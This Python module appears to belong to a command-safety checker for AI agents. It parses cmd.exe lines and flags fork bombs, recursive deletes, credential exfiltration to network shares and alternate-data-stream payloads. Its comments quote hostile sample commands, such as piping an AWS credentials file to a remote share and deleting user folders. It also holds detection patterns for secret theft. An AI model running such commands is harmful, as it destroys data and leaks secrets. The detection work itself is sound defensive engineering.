"""The cmd.exe front end: a tokeniser (there is no grammar worth the name) feeding rules.

Splits on unquoted `&`, `&&`, `||`, `|`, newlines and parentheses, honours `"` quotes and
`^` escapes, strips `@`, `rem`/`::` comments, `if …` conditions and `for … do`, and folds
well-known `%VARS%` into paths the rules understand.
"""

from __future__ import annotations

import re

import attrs

from aintern_ls.safety import budget, dispatch, wrappers
from aintern_ls.safety.bash import PARSES
from aintern_ls.safety.context import NO_STDIN, Cmd, Info, Scope, Stdin
from aintern_ls.safety.levels import Finding, RiskLevel
from aintern_ls.safety.paths import is_device
from aintern_ls.safety.words import Word, command_name

_VARS = {
    "%homedrive%%homepath%": "~",
    "%userprofile%": "~",
    "%homepath%": "~",
    "%homedrive%": "C:",
    "%systemroot%": "C:\\Windows",
    "%windir%": "C:\\Windows",
    "%systemdrive%": "C:",
    "%programfiles%": "C:\\Program Files",
    "%programfiles(x86)%": "C:\\Program Files (x86)",
    "%programw6432%": "C:\\Program Files",
    "%commonprogramfiles%": "C:\\Program Files\\Common Files",
    "%commonprogramfiles(x86)%": "C:\\Program Files (x86)\\Common Files",
    "%commonprogramw6432%": "C:\\Program Files\\Common Files",
    "%programdata%": "C:\\ProgramData",
    "%allusersprofile%": "C:\\ProgramData",
    "%cd%": ".",
    "%comspec%": "C:\\Windows\\System32\\cmd.exe",
}
# Usual values of per-user folders, for substrings only (`%TEMP:~0,2%` is the drive `C:`).
_USUAL_VALUES = {
    "temp": "C:\\Users\\user\\AppData\\Local\\Temp",
    "tmp": "C:\\Users\\user\\AppData\\Local\\Temp",
    "localappdata": "C:\\Users\\user\\AppData\\Local",
    "appdata": "C:\\Users\\user\\AppData\\Roaming",
    "public": "C:\\Users\\Public",
    "userprofile": "C:\\Users\\user",
}
# `%x%`, `%x:~0,2%` (substring), `%x:a=b%` (replace), `%%i`, `!x!` (delayed)
_VAR = re.compile(r"%[\w()]+(?::[^%\n]*)?%|%%?~?[a-zA-Z]|![\w]+(?::[^!\n]*)?!")
_WHOLE_VAR = re.compile(r"%\w+:[^%\n\"]*%|!\w+:[^!\n\"]*!")


_BATCH_BOMB = re.compile(
    r"%0\s*\|\s*%0|^\s*:(\w+)\b.*?^\s*start\b[^\n]*%0.*?^\s*goto\s+:?\1\b",
    re.I | re.M | re.S,
)


def analyse(text: str, scope: Scope) -> None:
    PARSES.count += 1
    bomb = _BATCH_BOMB.search(text) if "%0" in text else None
    if bomb is not None:
        scope.add(
            RiskLevel.BLOCKED,
            "fork-bomb",
            "a batch fork bomb: the script starts copies of itself forever",
            bomb.start(),
            bomb.end(),
        )
    if bomb is None:
        loop = _endless_spawner(text)
        if loop is not None:
            scope.add(
                RiskLevel.BLOCKED,
                "fork-bomb",
                "a batch fork bomb: an endless loop that keeps starting programs",
                loop[0],
                loop[1],
            )
    if "call" in text and ":" in text:
        _subroutine_calls(text, scope)  # `call :wipe C:\Users` … `:wipe` `rd /s /q %1` (n13w)
    budget.spend(len(text) // budget.CMD_CHARS_PER_STEP)  # (the tokeniser is cmd's grammar)
    segments, broken = _tokenise(text)
    if broken:
        scope.add(
            RiskLevel.MODERATE, "parse-error", "unbalanced quotes; check it by hand", 0, len(text)
        )
    info = Info()
    stdin: Stdin = NO_STDIN
    echoed: list[str] = []  # what the `echo`s just before printed (a `( … ) > f` group)
    memo: dict[object, _SegmentMemo] = {}
    loops = "(" in text and _may_loop(text)  # (sb22: a `for … do (` group can start)
    loop_head: list[Word] | None = None  # `for … do (` whose group goes on
    loop_end = -1  # where that group's `)` stands
    for words, piped, redirects in segments:
        closes = False  # the segment ends a loop's group that is redirected as a whole
        if loop_head is not None and words and 0 <= words[0].start < loop_end:
            # `for %d in (C:\Windows C:\Users) do (set t=%d& rd /s /q !t!)`: every command
            # of the group is the loop's body (its variable stands for the set here too).
            words = [*loop_head, *_trim_close(words, loop_end)]
            closes = bool(redirects) and all(t.start > loop_end for _, t in redirects)
        elif words and loops and _lead(words) == "for":
            loop_head, loop_end = _group_loop(words, text)
        stdin = dispatch.next_stdin(info, stdin) if piped else NO_STDIN
        if not piped and not redirects and words and all(_echo_off_only(w) for w in words):
            # (s20) `@` alone (`@(@(@(…`): the echo-off mark of a command that is not there
            # runs nothing and ends an `echo` group, as `_segment` finds after its passes
            # (10,000 characters of `@(` spent 40 ms in 3,334 memo lookups of it)
            info, echoed = Info(), []
            continue
        if piped or redirects or not words:
            info, echoed = _segment(words, redirects, stdin, scope, echoed, closes)
        else:
            info, echoed = _segment_once(words, stdin, scope, echoed, memo)


_CONTENT_READERS = frozenset({"type", "more", "findstr", "find", "sort", "certutil", "cat"})


def _redirect_exfil(words: list[Word], redirects: list[tuple[str, Word]], scope: Scope) -> None:
    """`type %USERPROFILE%\\.aws\\credentials > \\\\host\\s\\c.txt`: what a command reads
    from a file, written onto another machine's share: a key, credential or home file is
    exfiltration, any other local file an upload (both critical)."""
    from aintern_ls.safety.windows import _local_host_share

    # (the reader may stand behind `cmd /c`, `start /b`, `call`: its output is theirs)
    at = next(
        (
            i
            for i, w in enumerate(words[:6])
            if w.text.lower().removesuffix(".exe") in _CONTENT_READERS
        ),
        None,
    )
    if at is None:
        return  # (a listing sends names, not what the files hold)
    words = words[at:]
    for op, target in redirects:
        if op not in (">", ">>") or not _REMOTE_SHARE.match(target.text):
            continue
        if _secret_read_to_share(words, target, scope):
            return
        if _local_host_share(target.text):
            continue
        # `type report.docx > \\10.0.0.5\drop\r.docx`: a local file's contents written
        # onto another machine's share, an upload like `copy report.docx \\10.0.0.5\drop`
        # (the session-13/14 upload convention), whatever the file. findstr's and find's
        # first operand is their pattern, not a file.
        ops = [w for w in words[1:] if not w.text.startswith("/") and w.text.strip('"')]
        if words[0].text.lower().removesuffix(".exe") in ("findstr", "find"):
            ops = ops[1:]
        files = [w.text.strip('"') for w in ops if not _REMOTE_SHARE.match(w.text.strip('"'))]
        if files:
            scope.add(
                RiskLevel.CRITICAL,
                "upload",
                f"writes the contents of {files[0]} onto {target.text}",
                target.start,
                target.end,
            )
            return


# Another machine's share (`\\\\host\\share\\…`, `//host/share`), not a device path.
_REMOTE_SHARE = re.compile(r"(?:\\\\|//)(?![.?][\\/])[^\\/]+[\\/]")


def _secret_read_to_share(words: list[Word], target: Word, scope: Scope) -> bool:
    """A key, credential or home file among what the reader reads: exfiltration."""
    from aintern_ls.safety.paths import is_secret
    from aintern_ls.safety.windows import _WIN_SECRET, _personal_source

    for w in words[1:]:
        t = w.text.strip('"')
        low = t.replace("\\", "/").lower()
        if (
            is_secret(low)
            or _WIN_SECRET.search(t)
            or _personal_source(t)
            or re.match(r"[a-z]:/users/(?!public(?:/|$))", low)
        ):
            scope.add(
                RiskLevel.CRITICAL,
                "exfiltration",
                f"writes what it reads from {t} onto another machine's share",
                target.start,
                target.end,
            )
            return True
    return False


def _group_loop(words: list[Word], text: str) -> tuple[list[Word] | None, int]:
    """A `for … do (` segment whose parenthesised body may go on in the next segments: its
    head (up to `do`) and where the body's closing parenthesis stands (-1: none)."""
    do = next((i for i, w in enumerate(words) if w.text.lower() == "do"), None)
    if do is None or words[do].end < 0:
        return None, -1
    m = re.compile(r"[ \t]*@?\(").match(text, words[do].end)
    if m is None:
        return None, -1
    depth, quote = 0, False
    for j in range(m.end() - 1, min(len(text), m.end() + 8000)):
        c = text[j]
        if c == '"':
            quote = not quote
        elif not quote and c == "(":
            depth += 1
        elif not quote and c == ")":
            depth -= 1
            if depth == 0:
                return words[: do + 1], j
    return None, -1


def _trim_close(words: list[Word], close: int) -> list[Word]:
    """The words of a segment inside a group, without the group's `)` glued to the last."""
    out: list[Word] = []
    for w in words:
        if w.end == close + 1 and w.text.endswith(")"):
            w = Word(w.text[:-1], w.start, w.end - 1, w.dynamic, w.glob, w.origin)
            if not w.text:
                continue
        out.append(w)
    return out


@attrs.frozen(slots=True)
class _SegmentMemo:
    base: int  # where the segment stood
    found: tuple[Finding, ...]
    info: Info
    cost: float  # the second walk's steps (-1: walked once only)
    echo: str | None  # what it adds to the `echo` group (None: it ends the group)


def _segment_once(
    words: list[Word],
    stdin: Stdin,
    scope: Scope,
    echoed: list[str],
    memo: dict[object, _SegmentMemo],
) -> tuple[Info, list[str]]:
    """A command with no pipe or redirect, written the same way in the same state as one
    before it (`a()a()a()…` is ten thousand `a`s), is judged twice at most: later copies
    get its findings moved to where they stand and pay what the second judgement cost
    (the cut, when the budget runs out, falls where judging would put it)."""
    state = dispatch.memo_state(scope)
    if state is None:
        return _segment(words, [], stdin, scope, echoed)
    lo, hi = words[0].start, max([w.end for w in words])
    key = (
        tuple([(w.text, w.start - lo, w.end - lo, w.dynamic, w.glob, w.origin) for w in words]),
        scope.source[lo:hi],
        state,  # (its stdin is always none: a piped command is not reused)
    )
    hit = memo.get(key)
    if hit is not None and hit.cost >= 0 and budget.affordable(hit.cost):
        budget.spend(hit.cost)
        delta = lo - hit.base
        scope.findings.extend(
            [Finding(f.level, f.rule, f.reason, f.start + delta, f.end + delta) for f in hit.found]
        )
        echoed = [*echoed, hit.echo] if hit.echo is not None else []
        return dispatch.copy_info(hit.info, delta, stdin), echoed
    mark, spent, before = len(scope.findings), budget.spent(), len(echoed)
    info, after = _segment(words, [], stdin, scope, echoed)
    if len(scope.findings) >= mark and dispatch.memo_state(scope) == state:
        found = scope.findings[mark:]
        echo = after[before] if len(after) == before + 1 and after[:before] == echoed else None
        if (echo is not None or not after) and (
            all(lo <= f.start and f.end <= hi for f in found)
            and dispatch.info_within(info, stdin, lo, hi)
        ):
            cost = budget.spent() - spent if hit is not None else -1.0
            memo[key] = _SegmentMemo(
                lo, tuple(found), dispatch.copy_info(info, 0, stdin), cost, echo
            )
    return info, after


def _segment(
    words: list[Word],
    redirects: list[tuple[str, Word]],
    stdin: Stdin,
    scope: Scope,
    echoed: list[str],
    closes: bool = False,
) -> tuple[Info, list[str]]:
    """Judge one command of the line; returns what it gives a pipe and the `echo` group
    (`closes`: the command ends a loop's `( … )` group whose output `redirects` take)."""
    words = _child_cmd(words, scope.source)
    looped = bool(words) and any(w.text.lower().lstrip("@") == "for" for w in words[:12])
    rest = [
        (op, target)
        for op, target in redirects
        if not (looped and op in (">", ">|") and _empties_each(words, target, scope))
    ]
    seen: dict[tuple[str, str], _RedirectVerdict] = {}
    for op, target in _loop_redirects(words, rest):
        _redirect(scope, op, target, seen)
        if op == "<":
            # `cmd < w.txt` after `echo … > w.txt`: the file holds known text.
            known = wrappers.written_text(scope, target.text)
            stdin = Stdin("file") if known is None else Stdin("static", known, -1)
    # `%x%` is expanded before cmd reads the line (`set x=if` … `%x% 1==1 rd …`).
    if (
        scope.env
        and words
        and words[0].text.lower().lstrip("@") in _CMD_DELETERS
        and _set_on_this_line(words, scope)
    ):
        # (w21) `set X=C:\b && rd /s /q "%X%\"` on one line: cmd expanded `%X%` when it
        # read the line, before the `set` ran; judged as read too (X's value from before
        # the line: unset, the drive's root), the worst of the two readings counting
        read = _strip_control(_expand_set_variables(words, scope, as_read=True))
        if read:
            dispatch.judge(_unglue(read), scope, stdin)
    words = _listing_files(_expand_set_variables(words, scope), redirects, scope)
    words = _strip_control(words)
    if not words:
        wrappers.cmd_wrote(scope, words, redirects, False, echoed)
        return Info(), []
    _record_set(words, scope)
    if scope.env and words[0].text.lower() in _CMD_DELETERS:
        _read_target(words, scope)
    _alternate_streams(words, redirects, scope)
    words = _mapped_drives(_by_stem(_unglue(words), scope), scope)
    info = dispatch.judge(words, scope, stdin)
    if redirects and any(t.text.startswith(("\\\\", "//")) for _, t in redirects):
        _redirect_exfil(words, redirects, scope)
    if words[0].text.lower() in ("cd", "chdir", "pushd"):
        scope.pending_cd = ""  # (read from the words below: `cd /d X`)
    if scope.pending_cd is not None:
        from aintern_ls.safety.windows import apply_windows_cd

        apply_windows_cd(scope, words)  # `cd /d C:\ && rd /s /q Users`
    if closes and echoed and words[0].text.lower() == "echo":
        # `for %i in (1) do (echo :a& echo start %0& echo goto a) > x.bat`: the file gets
        # every echo of the group, as `(echo …& echo …) > x.bat` does
        group = [*echoed, _echo_line(words, scope)]
        wrappers.cmd_wrote(scope, [], redirects, info.network_fetch, group)
    else:
        wrappers.cmd_wrote(scope, _batch_text(words), redirects, info.network_fetch, echoed)
    if words[0].text.lower() == "echo" and not redirects:
        return info, [*echoed, _echo_line(words, scope)]
    return info, []


def _echo_line(words: list[Word], scope: Scope) -> str:
    """The line an `echo` in a `( … ) > f` group prints: its words, or (n17w) as typed when
    the tokeniser dropped a `;` or a leading tab that the file's reader needs (a makefile's
    `all: ; rd …` rule, a tab-indented recipe line)."""
    line = " ".join(w.text for w in words[1:])
    if len(words) < 2 or words[1].start < 0 or words[-1].end <= words[1].start:
        return line
    typed = scope.source[words[1].start : words[-1].end]
    gap = scope.source[words[0].end + 1 : words[1].start]
    # (f18) and an indented line (nmake's recipe: `echo   rd …` prints the spaces after the
    # first), or one with quotes or `=` the tokeniser split on (`Command="…"`, `x = !cmd`)
    lead = "\t" if "\t" in gap else gap if gap.strip(" ") == "" and gap else ""
    if not lead and not any(c in typed for c in ";=\"'"):
        return line
    return lead + re.sub(r"\^(.)", r"\1", typed)


_CMD_SWITCH = re.compile(r"(?i)\A/(?:[qdsau]|v:(?:on|off)|e:(?:on|off)|f:(?:on|off)|t:\w+|v|e|f)\Z")
_CMD_NAMES = frozenset({"cmd", "%comspec%"})


def _child_cmd(words: list[Word], src: str) -> list[Word]:
    """`cmd [/q /d /v:on …] /c WORDS` (or `/k`) of one command written without quotes is
    WORDS run by a child cmd: the line was already split at its operators, so what the child
    runs, prints and writes (`cmd /c echo clean | diskpart`, `cmd /c echo rd … > w.bat`,
    `cmd /c dir /b /s C:\\ > l.txt`) is WORDS', judged as one command of this line."""
    if words and words[0].text.lower().lstrip("@") == "start":
        # `start [/b /min …] WORDS`: the started command (an internal one runs in a child
        # cmd) is WORDS of this line, as for `cmd /c` (a quoted title is read by `_start`).
        i = 1
        while i < len(words) and words[i].text.startswith("/"):
            if words[i].text[:2].lower() == "/d":
                return words  # (w22) `start /D DIR …`: `_start` judges it in that folder
            i += 2 if words[i].text.lower() in ("/node", "/affinity") else 1
        inner = words[i:]
        if len(inner) > 1 and i > 1 and inner[0].text.lower() in ("for", "if"):
            return inner  # (the line was read as that loop or test: see `_lead_at`)
        if inner and i > 1 and _plain_line(inner, src, True) and "://" not in inner[0].text:
            return inner
        return words
    while len(words) > 2 and command_name(words[0].text.lstrip("@"), True) in _CMD_NAMES:
        i = 1
        while i < len(words) and _CMD_SWITCH.match(words[i].text):
            i += 1
        if i + 1 >= len(words) or words[i].text.lower() not in ("/c", "/k", "/r"):
            return words
        inner = words[i + 1 :]
        if not _plain_line(inner, src):
            return words
        words = inner
    return words


def _plain_line(inner: list[Word], src: str, quotes: bool = False) -> bool:
    """Words a child cmd gets as this line wrote them: no quote (cmd's own quote rule, in
    windows.py, reads those; with `quotes`, only a leading one, start's title, matters), no
    `^` (an escaped `|` is an operator of the child's line, not of this one), no group
    parenthesis, not a switch."""
    lo, hi = inner[0].start, inner[-1].end
    raw = src[lo:hi] if 0 <= lo < hi <= len(src) else '"'
    quoted = raw.startswith('"') if quotes else '"' in raw
    return not (quoted or "^" in raw or "(" in raw or inner[0].text.startswith("/"))


_DRIVE_MAP = "\x00drive:"  # `net use Z: \\host\share`: Z: is that share


# (env, its version, whether it maps a drive): the last answer of `_drives_mapped`, so the
# environment is scanned when it changed, not for every command (one tuple: swapped whole)
_DRIVES_SEEN: tuple[object, int, bool] = (None, -1, False)


def _drives_mapped(env: dict[str, str]) -> bool:
    global _DRIVES_SEEN
    version = getattr(env, "version", None)
    seen = _DRIVES_SEEN
    if version is not None and seen[0] is env and seen[1] == version:
        return seen[2]
    got = any(k.startswith(_DRIVE_MAP) for k in env)
    if version is not None:
        _DRIVES_SEEN = (env, version, got)
    return got


def _mapped_drives(words: list[Word], scope: Scope) -> list[Word]:
    """`net use Z: \\\\host\\share` maps a drive letter to another machine: later words on
    that drive name the share (`copy key Z:\\` copies to the network)."""
    low = [w.text.lower() for w in words[:3]]
    if low[:2] == ["net", "use"] and len(words) > 3 and re.fullmatch(r"[a-z]:", low[2]):
        share = words[3].text
        if share.startswith(("\\\\", "//")):
            scope.env[_DRIVE_MAP + low[2]] = share.rstrip("\\/")
        return words
    if not _drives_mapped(scope.env):
        return words
    out = []
    for w in words:
        m = re.match(r"(?i)\A([a-z]:)(.*)\Z", w.text)
        mapped = scope.env.get(_DRIVE_MAP + m.group(1).lower()) if m else None
        if m is not None and mapped is not None:
            rest = m.group(2).lstrip("\\/")
            w = Word(mapped + "\\" + rest, w.start, w.end, w.dynamic, w.glob, w.origin)
        out.append(w)
    return out


_GLUED = re.compile(r"\A([A-Za-z][\w.-]*?)((?:/[^/\\\s]*)+)\Z")


def _unglue(words: list[Word]) -> list[Word]:
    """`rd/s/q C:\\x`, `del/f/s/q …`, `dir/b`: cmd ends a command word at `/`, so the
    switches glued to it are switches."""
    head = words[0]
    m = _GLUED.match(head.text) if not head.dynamic and "/" in head.text else None
    if m is None or ":" in head.text:
        return words
    out = [Word(m.group(1), head.start, head.start + len(m.group(1)))]
    pos = head.start + len(m.group(1))
    for sw in re.findall(r"/[^/]*", m.group(2)):
        if sw != "/":
            out.append(Word(sw, pos, pos + len(sw)))
        pos += len(sw)
    return [*out, *words[1:]]


# cmd finds `u` as `u.COM`, `u.EXE`, `u.BAT`, `u.CMD` (PATHEXT) in the working directory first.
_PATHEXT = (".com", ".exe", ".bat", ".cmd")


def _by_stem(words: list[Word], scope: Scope) -> list[Word]:
    """`echo rd /s /q C:\\ > u.bat & u`: a command word without an extension names a batch
    (or program) this block wrote or downloaded under that stem; run it as that file."""
    head = words[0]
    text = head.text.strip('"')
    if head.dynamic or not text or not (scope.written or scope.unseen or scope.downloaded):
        return words
    low = text.lower()
    if "." in text.rsplit("\\", 1)[-1]:
        if (
            "\\" not in text
            and "/" not in text
            and any(k.lower().rsplit("/", 1)[-1] == low for k in (*scope.unseen, *scope.downloaded))
        ):
            # `curl -o u.exe … & u.exe`: the downloaded file in the working directory
            return [Word(".\\" + text, head.start, head.end, False), *words[1:]]
        return words
    for ext in _PATHEXT:
        cand = low.rsplit("\\", 1)[-1] + ext
        for table in (scope.written, scope.unseen, scope.downloaded):
            hit = next((k for k in table if k.lower().rsplit("/", 1)[-1] == cand), None)
            if hit is not None:
                named = text + ext if "\\" in text or table is scope.written else ".\\" + text + ext
                return [Word(named, head.start, head.end, False), *words[1:]]
    return words


_DOUBLED_VAR = re.compile(r"%%(\w+)%%")
_EXPANDED_FOLDER = re.compile(r"%([A-Za-z]:[\\/][^%]*|~[^%]*)%")


def _batch_text(words: list[Word]) -> list[Word]:
    """What `echo` writes into a batch file: `%%NAME%%` is written as `%NAME%` (expanded when
    the batch runs), so a word holding only such escapes is known text, not unknown."""
    if not words or words[0].text.lower() not in ("echo", "echo."):
        return words
    out = [words[0]]
    for w in words[1:]:
        if "%" not in w.text:
            out.append(w)  # nothing to undo (the common case: keep long echoes linear)
            continue
        # `%%SystemRoot%%` arrives with the inner variable already expanded (`%C:\\Windows%`).
        text = _DOUBLED_VAR.sub(r"%\1%", w.text)
        text = _EXPANDED_FOLDER.sub(r"\1", text)
        if text != w.text and not _VAR.search(re.sub(r"%\w+%", "", text)):
            out.append(Word(text, w.start, w.end, False, w.glob, w.origin))
        else:
            out.append(w)
    return out


def _alternate_streams(words: list[Word], redirects: list[tuple[str, Word]], scope: Scope) -> None:
    """`… > file.txt:payload.exe`, `wscript c:\\ads\\f.txt:x.vbs`, `print /D:f.txt:x.exe`:
    writing to or running from an NTFS alternate data stream hides a payload from directory
    listings and most scanners (critical)."""
    if not any(":" in w.text for w in words[1:]) and not any(":" in t.text for _, t in redirects):
        return  # a stream is named `file:stream`
    from aintern_ls.safety.windows import alternate_stream

    data = words[0].text.lower().lstrip("@") in ("echo", "set", "title", "rem", "prompt")
    for w in [*([] if data else words[1:]), *(t for _, t in redirects)]:
        if not w.dynamic and alternate_stream(w.text):
            scope.add(
                RiskLevel.CRITICAL,
                "hidden-stream",
                f"{w.text} is an alternate data stream (a hidden place to keep a payload)",
                w.start,
                w.end,
            )
            return


_CMD_VAR = "\x00cmd:"  # cmd variables in the scope's table (no shell name starts so)


def _cmd_operator(value: str, op: str) -> str:
    """`%x:~1,2%` (substring, negative offsets from the end) and `%x:a=b%` (replace every
    `a`, case-insensitively) on a known value."""
    sub = re.fullmatch(r"~\s*(-?\d+)\s*(?:,\s*(-?\d+))?", op)
    if sub is not None:
        start = int(sub.group(1))
        start = max(0, len(value) + start) if start < 0 else start
        if sub.group(2) is None:
            return value[start:]
        length = int(sub.group(2))
        end = start + length if length >= 0 else len(value) + length
        return value[start:end]
    old, eq, new = op.partition("=")
    if eq and old:
        return re.sub(re.escape(old.lstrip("*")), lambda _: new, value, flags=re.I)
    return value


_CMD_READ = "\x00cmdread:"  # (n18w) variables `set /p` read from a file or the keyboard
# (w21) where the line of a variable's last `set` ends, and the value it had before: cmd
# expands `%x%` when it reads the line, so on the `set`'s own line `%x%` is the old value
_CMD_SET_LINE = "\x00cmdsetline:"
_CMD_PREV = "\x00cmdprev:"
_CMD_DELETERS = frozenset({"rd", "rmdir", "del", "erase"})


def _read_target(words: list[Word], scope: Scope) -> None:
    """(n18w) `set /p T=<list.txt` then `rd /s /q %T%`: the whole path of a delete is a value
    read at run time from a file this block does not show: what is deleted cannot be seen
    (opaque, critical)."""
    for w in words[1:]:
        m = _VAR.fullmatch(w.text.strip('"'))
        if m is not None and scope.env.get(_CMD_READ + m.group(0).strip("%!").lower()):
            reason = f"{words[0].text} deletes a path read at run time ({w.text}): not visible"
            scope.add(RiskLevel.CRITICAL, "opaque-exec", reason, w.start, w.end)
            return


def _record_set(words: list[Word], scope: Scope) -> None:
    """`set x=rd`: remember the literal value (a value built from variables is unknown)."""
    if (
        words[0].text.lower() == "set"
        and len(words) >= 3
        and words[1].text.lower() == "/p"
        and "=" in words[2].text
    ):
        name = words[2].text.split("=", 1)[0].strip().lower()
        scope.env.pop(_CMD_VAR + name, None)
        scope.env[_CMD_READ + name] = "1"
        return
    if words[0].text.lower() == "path" and len(words) >= 2 and words[1].text != "/?":
        # (w21) `path %TEMP%\b;%PATH%`: cmd's own way to set PATH, as `set PATH=…`
        from aintern_ls.safety.powershell import env_hook

        src = scope.source
        raw = src[words[1].start : words[-1].end] if words[-1].end <= len(src) else ""
        env_hook(scope, "PATH", words[0].start, words[-1].end, None, raw.lstrip("= "))
        return
    if words[0].text.lower() == "set" and len(words) >= 2 and not words[1].text.startswith("/"):
        name, eq, value = " ".join(w.text for w in words[1:]).partition("=")
        # (the value as written: the tokens lose `;`, which separates PATH's folders)
        src = scope.source
        raw_value = (
            src[words[1].start : words[-1].end].partition("=")[2]
            if 0 <= words[1].start < words[-1].end <= len(src)
            and words[-1].end - words[1].start < 8192
            else value
        )
        key = _CMD_VAR + name.strip().lower()
        if eq and scope.env:
            scope.env.pop(_CMD_READ + name.strip().lower(), None)  # (set again: not read)
        if eq and _VAR.search(value) and "%" in value:
            # `set p=%PROGRAMDATA:~0,3%Users`: a value built from a well-known folder's
            # substring (or a variable set before) is that text.
            value = _VAR.sub(lambda m: _var_value(m, scope), value)
        if eq:
            from aintern_ls.safety.powershell import env_hook

            # (a command variable's known value is judged as the command it holds, m9)
            env_hook(
                scope,
                name,
                words[0].start,
                words[-1].end,
                value if not _VAR.search(value) else None,
                raw_value,
            )
        if eq:
            low_name = name.strip().strip('"').lower()
            old_value = scope.env.get(key)
            line_end = scope.source.find("\n", words[0].start)
            scope.env[_CMD_SET_LINE + low_name] = str(line_end if line_end >= 0 else 1 << 40)
            if old_value is None:
                scope.env.pop(_CMD_PREV + low_name, None)
            else:
                scope.env[_CMD_PREV + low_name] = old_value
        if eq and not _VAR.search(value):
            scope.env[key] = value
        elif eq:
            scope.env.pop(key, None)


def _var_value(m: re.Match[str], scope: Scope, at: int = -1) -> str:
    """A `%x%`/`%x:~0,2%`/`%x:a=b%`/`!x!` reference's value when it is known (a `set` this
    block made, or a substring/replacement of a well-known folder), else as written. (w21)
    A `%x%` used at `at` on the line of x's last `set` is the value x had before that line
    (cmd expanded it when it read the line; `!x!` is expanded when it runs)."""
    name, _, op = m.group(0).strip("%!").partition(":")
    known = scope.env.get(_CMD_VAR + name.lower())
    if at >= 0 and m.group(0)[:1] == "%" and scope.env:  # (`at`: read as cmd reads it)
        set_line = scope.env.get(_CMD_SET_LINE + name.lower())
        if set_line is not None and at < int(set_line):
            known = scope.env.get(_CMD_PREV + name.lower())
    if known is None and op:
        # `%PROGRAMFILES:~0,2%`: a substring of a well-known value (here `C:`).
        known = _VARS.get(f"%{name.lower()}%")
        if known in (None, "~"):
            known = _USUAL_VALUES.get(name.lower())
    if known is None or (known == "~" and op):
        return m.group(0)
    return _cmd_operator(str(known), op) if op else str(known)


def _set_on_this_line(words: list[Word], scope: Scope) -> bool:
    """(w21) Whether a `%x%` of these words names a variable `set` earlier on the same line
    (`set X=C:\\b && rd /s /q "%X%\\"`): cmd expanded it when it read the line, before
    that `set` ran, so the command may act on x's old value (unset: the drive's root)."""
    for w in words[1:]:
        if "%" not in w.text:
            continue
        for m in _VAR.finditer(w.text):
            name = m.group(0).strip("%!").partition(":")[0].lower()
            line_end = scope.env.get(_CMD_SET_LINE + name)
            if m.group(0)[:1] == "%" and line_end is not None and w.start < int(line_end):
                return True
    return False


def _expand_set_variables(words: list[Word], scope: Scope, as_read: bool = False) -> list[Word]:
    """Put remembered `set` values back where `%x%`/`!x!` is used later (one level; what
    stays unknown stays dynamic). `as_read`: a `%x%` on its `set`'s own line keeps the
    value from before that line (w21)."""
    if not any(w.dynamic for w in words) or words[0].text.lower().lstrip("@") == "set":
        return words
    out: list[Word] = []
    for w in words:
        if not w.dynamic:
            out.append(w)
            continue

        def sub(m: re.Match[str], at: int = w.start if as_read else -1) -> str:
            return _var_value(m, scope, at)

        # In command position (or after `call`) the value is a whole command line.
        head = w is words[0] or (
            len(words) > 1 and w is words[1] and words[0].text.lower().lstrip("@") == "call"
        )
        raw = w.text
        if (
            raw[:2] == "%%"
            and raw.count("%") == 4
            and w is not words[0]
            and words[0].text.lower().lstrip("@") == "call"
        ):
            # (n13w) `call %%x%%`: the batch's own expansion leaves `%x%`, which `call`
            # expands again: the value of x is the command line; (n18w) the same for each
            # argument (`call rd /s /q %%w%%`)
            raw = raw[1:-1]
        text = _VAR.sub(sub, raw)
        dynamic = bool(_VAR.search(text))
        # cmd expands `%x%` as text before it splits the line: an unquoted value with
        # spaces is several arguments (`set t=/s /q C:\Users& rd %t%`).
        quoted = scope.source[w.start : w.start + 1] == '"'
        parts = text.split() if (head or not quoted) and not dynamic and text.strip() else [text]
        out.extend(
            Word(p, w.start, w.end, dynamic, w.glob or ("*" in p or "?" in p), w.origin)
            for p in parts
        )
    return out


_LABEL = re.compile(r"(?im)^[ \t@]*:(\w+)[ \t]*$")
_CALL_LABEL = re.compile(r"(?i)\bcall[ \t]+:(\w+)([^\n&|<>]*)")
_SUB_END = re.compile(r"(?im)^[ \t@]*(?:exit[ \t]+/b\b|goto[ \t]+:?eof\b)")


def _subroutine_calls(text: str, scope: Scope) -> None:
    """`call :label ARGS` and the subroutine's lines (from `:label` to `exit /b` or `goto
    :eof`) with `%1` … `%*` replaced by ARGS: judged as what that call runs."""
    calls = [m for m in _CALL_LABEL.finditer(text[:20000]) if m.group(2).strip()][:8]
    if not calls:
        return
    labels = {m.group(1).lower(): m.end() for m in _LABEL.finditer(text[:20000])}
    for c in calls:
        start = labels.get(c.group(1).lower())
        if start is None:
            continue
        end = _SUB_END.search(text, start)
        body = text[start : end.start() if end is not None else min(len(text), start + 4000)]
        if "%" not in body:
            continue
        args = re.findall(r'"[^"]*"|[^\s,;=]+', c.group(2))
        line = wrappers.batch_arguments(body, args)
        if line != body:
            scope.include(scope.nested(line, "cmd", Word(line, c.start(), c.end()), -1))


_SPAWN = re.compile(
    r"(?i)(?:^|[&|(\s@])(?:start\b|call\s+%~?\w*0\b|%~?\w*0\b|cmd(?:\.exe)?\s+/c\s+%~?\w*0)"
)
_ENDLESS_FOR = re.compile(
    r"(?i)\bfor\s+/l\s+%%?\w\s+in\s*\(\s*-?\d+\s*,\s*0\s*,\s*-?\d+\s*\)\s*do\b(.*)"
)


def _endless_spawner(text: str) -> tuple[int, int] | None:
    """`:a` … `start …` … `goto a` with nothing that leaves the loop, or `for /l` with a
    step of 0 around `start`: a batch script that starts processes forever."""
    if text.isascii() and "start" not in text.lower() and ("%" not in text or "0" not in text):
        # (sb22) every branch of `_SPAWN` holds `start` or a `%`…`0` reference: a text with
        # neither is not searched (case-blind, no literal prefix: 20 µs an ordinary command;
        # only ASCII text, as `ſ` matches `s` case-blind)
        return None
    if _SPAWN.search(text) is None:
        # (a loop's body is a part of the text, and what `_SPAWN` finds in it, it finds in
        # the text: none there, none in any loop; one pass instead of a pattern per label)
        return None
    for n, m in enumerate(_LABEL.finditer(text)):
        if n >= 32:
            break  # enough: a script with more labels is read by its commands alone
        back = re.search(
            r"(?im)^[ \t@]*goto[ \t]+:?" + re.escape(m.group(1)) + r"[ \t]*$", text[m.end() :]
        )
        if back is None:
            continue
        body = text[m.end() : m.end() + back.start()]
        if re.search(r"(?i)\b(exit|goto|if)\b", body):
            continue  # a way out (or a condition) we do not try to follow
        if _SPAWN.search(body):
            return m.start(), m.end() + back.end()
    for m in _ENDLESS_FOR.finditer(text):
        if _SPAWN.search(m.group(1)):
            return m.start(), m.end()
    return None


# Commands that print nothing: `type nul > f`, `break > f`, `cd. > f` empty the file.
_PRINTS_NOTHING = frozenset({"type nul", "type nul:", "break", "cd."})


